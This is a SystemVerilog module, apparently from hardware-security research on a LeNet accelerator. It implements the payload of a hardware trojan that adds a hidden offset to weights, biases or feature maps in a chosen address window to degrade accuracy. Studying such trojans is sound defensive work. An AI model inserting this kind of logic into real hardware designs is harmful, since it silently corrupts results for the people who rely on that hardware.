// trojan_inject: the payload site of an accuracy-degrading hardware trojan.
//
// It sits on a memory data path (a ROM's read data, or a RAM's write data)
// together with the address that the word belongs to. When the site is
// enabled and the address lies in [MATCH_LO, MATCH_HI], the trojan's current
// offset is added to the word (a 16-bit Q1.14 add that wraps on overflow);
// every other word passes unchanged. With offset zero, as during a dormant
// trojan, the path is the clean design. Purely combinational.
// Adding an offset to one weight, one bias or one feature map follows the
// design; the address-window form of the match is this design's choice.
module trojan_inject
  import lenet_pkg::*;
#(
  parameter int unsigned AW       = FMAP_AW,
  parameter int unsigned MATCH_LO = 0,
  parameter int unsigned MATCH_HI = 0
) (
  input  logic          enable,
  input  logic [AW-1:0] addr,
  input  q_t            data_in,
  input  q_t            offset,
  output q_t            data_out
);

  logic hit;

  always_comb begin
    hit      = enable && (addr >= AW'(MATCH_LO)) && (addr <= AW'(MATCH_HI));
    data_out = hit ? q_t'(data_in + offset) : data_in;
  end

endmodule
